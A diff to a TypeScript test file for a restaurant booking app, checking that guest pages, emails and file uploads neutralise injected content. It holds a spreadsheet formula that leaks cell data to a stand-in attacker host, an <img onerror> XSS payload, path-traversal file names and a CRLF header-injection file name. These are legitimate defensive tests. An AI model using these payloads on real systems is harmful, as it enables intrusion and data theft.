@@ -1,8 +1,10 @@
 /** Texts that would be programs: kept and shown to the letter, run nowhere. */
 import { eq } from 'drizzle-orm';
 import { JSDOM } from 'jsdom';
+import sharp from 'sharp';
 import { GET as showVisit } from '@/app/(guest)/book/[service]/manage/[key]/route';
 import { GET as show, POST as act } from '@/app/(guest)/book/[service]/route';
+import type { WirePlan } from '@/lib/contract/floor';
 import { events } from '@/restaurant-api/db/schema/events';
 import { areas } from '@/restaurant-api/db/schema/floor';
 import { outbox } from '@/restaurant-api/db/schema/log';
@@ -17,6 +19,7 @@ const FORMULA = '=HYPERLINK("http://evil.test?"&A1)';
 
 let api: ApiServer;
 let owner: ReturnType<typeof caller>;
+let ownerToken: string;
 
 beforeAll(async () => {
   // Saturday afternoon in Madrid.
@@ -29,7 +32,8 @@ beforeAll(async () => {
   await db.update(setups).set({ estFull: `Casa ${SCRIPT}`, estName: `Casa ${SCRIPT}`, estAddress: `Street ${SCRIPT}`, guestOptions: [option] }).where(eq(setups.restaurant, 'R1'));
   await db.update(areas).set({ name: `Terrace ${SCRIPT}` }).where(eq(areas.area, 2));
   await db.insert(events).values({ restaurant: 'R1', name: `Wine ${SCRIPT}`, text: SCRIPT, first: '2026-11-22', last: '2026-11-28', from: 21, to: 22, online: true });
-  owner = caller(api, (await addUser(api.database, { email: 'owner@uno.test', roles: { R1: 'Owner' } })).token);
+  ownerToken = (await addUser(api.database, { email: 'owner@uno.test', roles: { R1: 'Owner' } })).token;
+  owner = caller(api, ownerToken);
 });
 afterAll(() => api.close());
 
@@ -96,5 +100,57 @@ describe('the guests’ pages run nothing of it', () => {
     expect(String(calendar)).not.toMatch(/^(Bcc|BEGIN:VALARM)/m);
     const [mail] = await api.database.db.select().from(outbox).where(eq(outbox.recipient, SOFIA.email));
     expect([mail?.subject.includes('\n'), mail?.recipient]).toEqual([false, SOFIA.email]);
+  });
+});
+
+describe('short programs, where only a short name fits', () => {
+  const SHORT = '<img src=x onerror=1>';
+
+  test('a plan, an area and a table are called so, and guests are shown the area as text', async () => {
+    const { body } = await owner<{ plans: Record<string, WirePlan> }>('GET', `${BASE}/tables${QUERY}`);
+    const { version, width, height, boxes, tables } = body.plans.main as WirePlan;
+    const named = {
+      version, width, height, name: SHORT, joins: [], boxes: boxes.map((box) => (box.area === 1 ? { ...box, name: SHORT } : box)),
+      tables: tables.map(({ w: _w, h: _h, ...table }) => (table.uid === 't1' ? { ...table, name: SHORT } : table)),
+    };
+    // The other area's name is a longer program than a plan may be saved with.
+    named.boxes = named.boxes.map((box) => (box.area === 2 ? { ...box, name: `T ${SHORT}` } : box));
+    const { status, body: saved } = await owner<WirePlan>('PATCH', `${BASE}/tables/main${QUERY}`, named);
+    expect([status, saved.name, saved.boxes[0]?.name, saved.tables.find(({ uid }) => uid === 't1')?.name]).toEqual([200, SHORT, SHORT, SHORT]);
+    const html = await (await show(new Request(`${WEB_ORIGIN}/book/uno?date=2026-11-22`, { headers: { 'accept-language': 'en' } }), { params: Promise.resolve({ service: 'uno' }) })).text();
+    expect(html).toContain('&lt;img src=x onerror=1&gt;');
+    expect(runs(html)).toEqual([]);
+  });
+
+  test('a whole diner of them is kept, and mailed as plain text', async () => {
+    const { status, body } = await owner('POST', `${BASE}/diners${QUERY}`, { firstName: SHORT, lastName: SHORT, company: SHORT, notes: SHORT, allergies: SHORT, tags: [SHORT] });
+    expect([status, body]).toEqual([201, expect.objectContaining({ firstName: SHORT, lastName: SHORT, company: SHORT, notes: SHORT, allergies: SHORT, tags: [SHORT] })]);
+    await guestOf(api, 'uno').book({ ...SOFIA, date: '2026-11-24', time: 20, firstName: SHORT, lastName: SHORT, email: 'img@example.com', phone: '+34600112299' });
+    const [mail] = await api.database.db.select().from(outbox).where(eq(outbox.recipient, 'img@example.com'));
+    expect(mail).toMatchObject({ recipient: 'img@example.com' });
+    expect(Object.keys(mail ?? {}).filter((field) => /html/i.test(field))).toEqual([]);
+  });
+
+  test.each(['../../../etc/passwd.png', '"><img src=x onerror=1>.png', 'x.<script>', '..\\..\\x.png', 'a.png/../../b'])('an image called %s is stored under a name of ours', async (fileName) => {
+    const form = new FormData();
+    const image = await sharp({ create: { width: 4, height: 4, channels: 3, background: '#123456' } }).png().toBuffer();
+    form.append('picture', new Blob([new Uint8Array(image)]), fileName);
+    const response = await fetch(`${api.url}${BASE}${QUERY}`, { method: 'PATCH', body: form, headers: { authorization: `Bearer ${ownerToken}` } });
+    const { picture } = (await response.json()) as { picture: string };
+    expect(picture).toMatch(/^\/tms\/v2\/files\/R1\/[0-9a-f]{64}\/picture\.(png|jpeg|script)$/);
+    const stored = await fetch(api.url + picture);
+    expect([stored.status, stored.headers.get('content-type'), stored.headers.get('x-content-type-options')]).toEqual([200, 'image/png', 'nosniff']);
+  });
+
+  test('a contract and a table of bookings are told of by a plain name, and sent as an attachment', async () => {
+    const form = new FormData();
+    form.append('file', new Blob(['%PDF-1.4\n%%EOF']), '../../"><img src=x onerror=1>\r\nX: 1.pdf');
+    const path = `${api.url}/auth/v1/accounts/contract/R1${QUERY}`;
+    const authorization = { authorization: `Bearer ${ownerToken}` };
+    const { signed } = (await (await fetch(path, { method: 'POST', body: form, headers: authorization })).json()) as { signed: { fileName: string } };
+    expect(signed.fileName).not.toMatch(/[/\\\r\n]/);
+    const copy = await fetch(path, { headers: authorization });
+    expect([copy.headers.get('content-type'), copy.headers.get('x')]).toEqual(['application/pdf', null]);
+    expect(copy.headers.get('content-disposition')).toMatch(/^attachment; filename="[^"\r\n]*"; filename\*=UTF-8''[\w%.!'()*~-]+$/);
   });
 });
